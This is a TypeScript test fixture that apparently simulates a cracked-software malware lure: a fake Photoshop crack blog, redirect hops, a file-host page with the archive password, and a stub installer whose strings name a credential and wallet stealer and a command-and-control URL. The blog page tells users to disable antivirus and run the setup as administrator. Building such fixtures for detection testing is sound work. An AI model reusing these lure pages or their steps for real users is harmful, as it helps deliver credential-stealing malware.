import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { pe, fileRoute, zip } from '../parts/e-bin.js';

// Cracked-software blog -> redirect chain -> file host page printing the archive password.
const blogHost = 'www.crackedpc-softhub.org';
const blogPage = `<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Adobe Photoshop 2025 Crack v26.2 + Activation Key Free Download [Latest]</title>
<meta name="description" content="Adobe Photoshop 2025 crack is the world's best imaging and graphic design software. Download full version with pre-activated setup for Windows 10/11.">
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#eef1f4;color:#222}
.hd{background:#1f2937;padding:12px 24px;display:flex;align-items:center;gap:22px}.hd b{color:#38bdf8;font-size:22px}.hd a{color:#cbd5e1;text-decoration:none;font-size:14px}
.w{max-width:1140px;margin:20px auto;display:grid;grid-template-columns:1fr 300px;gap:22px;padding:0 14px}
article{background:#fff;padding:24px 30px;border-radius:4px}article h1{font-size:26px;line-height:1.3}
.meta{font-size:12px;color:#6b7280}.shot{height:240px;background:linear-gradient(135deg,#001e36,#31a8ff);border-radius:4px;margin:14px 0}
article h2{font-size:19px;border-left:4px solid #38bdf8;padding-left:10px}
ul li{margin:4px 0}
.keys{font-family:Consolas,monospace;background:#f3f4f6;padding:10px;border-radius:4px}
.dlb{display:block;width:290px;margin:22px auto;text-align:center;background:#16a34a;color:#fff;font-weight:700;padding:14px;border-radius:6px;text-decoration:none;font-size:17px}
aside div{background:#fff;padding:16px;border-radius:4px;margin-bottom:16px;font-size:14px}aside a{display:block;color:#1d4ed8;margin:4px 0;text-decoration:none}
.cm{border-top:1px solid #eee;padding:10px 0;font-size:14px}
footer{text-align:center;color:#6b7280;font-size:12px;padding:24px}
</style>
</head>
<body>
<div class="hd"><b>CrackedPCSoft</b><a href="#">Windows</a><a href="#">Mac</a><a href="#">Games</a><a href="#">Android</a><a href="#">DMCA</a></div>
<div class="w">
<article>
 <h1>Adobe Photoshop 2025 Crack v26.2 + Activation Key Free Download [Latest]</h1>
 <div class="meta">By admin &middot; Updated <span id="upd"></span> &middot; 48,112 downloads</div>
 <div class="shot"></div>
 <p><b>Adobe Photoshop 2025 Crack</b> is the world’s best imaging and graphic design software. With the new Generative Fill powered by Firefly AI, you can add, extend or remove content from images non-destructively. This pre-activated version works offline with no subscription needed.</p>
 <h2>Key features</h2>
 <ul><li>Generative Fill &amp; Generative Expand (works offline in this build)</li><li>Neural Filters and Sky Replacement</li><li>Remove Tool and Content-Aware Fill</li><li>All plugins unlocked, no Creative Cloud login</li></ul>
 <h2>Activation keys</h2>
 <div class="keys">PS26-KJ8H3-2MXQ9-LP4RT-77VNC<br>PS26-9DQWE-XM3KL-0PQA8-HN2YB</div>
 <h2>How to install?</h2>
 <ol><li>Disable Windows Defender &amp; antivirus (it deletes the patch – false positive).</li><li>Download the setup from the link below.</li><li>Extract the archive with the password <b>2025</b>.</li><li>Run <b>Setup.exe</b> as administrator and wait for the installation.</li><li>Done! Enjoy the full version.</li></ol>
 <a class="dlb" id="dlb" href="/go/photoshop-2025/">&#11015; DOWNLOAD NOW (2.9 GB)</a>
 <div class="cm"><b>Mike</b>: works perfectly, thanks admin!!</div>
 <div class="cm"><b>Sara</b>: password 2025 works. defender flagged it but i just allowed</div>
</article>
<aside><div><b>Popular</b><a href="#">Microsoft Office 2024 Crack</a><a href="#">IDM 6.42 Build 26 Crack</a><a href="#">FL Studio 24 Crack</a><a href="#">Windows 11 Activator</a><a href="#">CorelDRAW 2025 Keygen</a></div></aside>
</div>
<footer>© 2025 CrackedPCSoft. All software is for educational purposes only.</footer>
<script>document.getElementById('upd').textContent=new Date(Date.now()-3*864e5).toLocaleDateString('en-US',{month:'long',day:'numeric',year:'numeric'});</script>
</body>
</html>`;

const hostPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Download Full_Setup_Pass-2025.zip – FastStorage</title>
<style>
body{margin:0;background:#f5f7fb;font-family:Arial,sans-serif;color:#1f2937}
.bar{background:#fff;border-bottom:1px solid #e5e7eb;padding:12px 24px;font-weight:700;color:#2563eb;font-size:20px}
.card{max-width:560px;margin:50px auto;background:#fff;border-radius:10px;box-shadow:0 4px 18px rgba(0,0,0,.08);padding:28px;text-align:center}
.fn{font-size:18px;font-weight:700;word-break:break-all}.sz{color:#6b7280;font-size:14px}
.pw{margin:18px auto;background:#fef3c7;border:1px solid #f59e0b;border-radius:6px;padding:12px;font-size:18px}
.pw b{font-family:monospace;font-size:24px;letter-spacing:3px}
.btn{display:inline-block;background:#2563eb;color:#fff;padding:14px 34px;border-radius:6px;font-size:17px;text-decoration:none}
.note{font-size:12px;color:#6b7280;margin-top:16px}
</style>
</head>
<body>
<div class="bar">FastStorage</div>
<div class="card">
 <div class="fn">Full_Setup_Pass-2025.zip</div>
 <div class="sz">Size: 21.4 MB &middot; Uploaded 2 days ago</div>
 <div class="pw">Archive password: <b>2025</b></div>
 <a class="btn" id="b" href="/dl/s/Ps2025Full/Full_Setup_Pass-2025.zip">Download file</a>
 <div class="note">Open the archive with 7-Zip or WinRAR and enter the password above. If the download does not start, disable your ad blocker.</div>
</div>
<script>setTimeout(function(){location.href=document.getElementById('b').href},3000);</script>
</body>
</html>`;
const setupExe = pe({ x64: true, size: 12288, strings: ['Setup.exe', 'Adobe Photoshop 2025 Installer', 'LummaC2 Build 2025', 'Local State', 'Login Data', 'wallet.dat', 'https://cheapinvoke.shop/api'] });

export const entries: Entry[] = [
  {
    id: 'e-mal-crack-photoshop-pass',
    label: 'malware',
    kind: 'cracked-software',
    url: `https://${blogHost}/adobe-photoshop-2025-crack-v26-2-activation-key/`,
    body: blogPage,
    routes: {
      [`${blogHost}/go/photoshop-2025/`]: redirectRoute(302, 'https://lnk.redirect-gateway.xyz/r/9Qf2a?t=ps'),
      'lnk.redirect-gateway.xyz/r/9Qf2a': redirectRoute(302, 'https://get-files.storagecloud-fast.com/s/Ps2025Full'),
      'get-files.storagecloud-fast.com/s/Ps2025Full': htmlRoute(hostPage),
      'get-files.storagecloud-fast.com/dl/s/Ps2025Full/Full_Setup_Pass-2025.zip': fileRoute(
        zip([{ name: 'Full_Setup/Setup.exe', data: setupExe }, { name: 'Full_Setup/data/setup.dat', data: Buffer.alloc(2048, 0x5a) }], { encrypted: true }),
        'application/zip',
        'Full_Setup_Pass-2025.zip',
      ),
    },
  },
];
